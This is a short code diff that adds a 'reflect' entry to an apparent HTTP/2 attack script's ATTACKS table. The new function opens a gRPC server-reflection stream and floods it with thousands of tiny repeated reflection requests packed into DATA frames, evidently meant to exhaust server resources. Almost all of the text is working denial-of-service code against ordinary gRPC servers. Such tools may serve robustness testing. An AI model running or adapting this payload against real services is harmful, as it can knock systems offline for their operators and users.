@@ -114,6 +114,13 @@ def many_settings(sid, number):
                  *data(sid, field(1, config)))
 
 
+def reflect(sid):
+    """Thousands of the smallest questions in one call, which goes on."""
+    block = request("/grpc.reflection.v1.ServerReflection/ServerReflectionInfo")
+    ask = frame(DATA, 0, 1, b"\0\0\0\0\2\x1a\0" * 2285) * 8
+    return (calls(1, block) if sid == 1 else b"") + ask
+
+
 def varint(n):
     out = b""
     while n > 127:
@@ -164,6 +171,7 @@ ATTACKS = {
     "parts": (parts, True, WIDE),
     "settings": (lambda sid: many_settings(sid, 1024), True, WIDE),
     "settings-64k": (lambda sid: many_settings(sid, 4000), True, WIDE),
+    "reflect": (reflect, True, WIDE),
     "halves": (halves, True, WIDE),
     "idlers": (idlers, True, WIDE),
     "pings": (pings, True, SMALL),
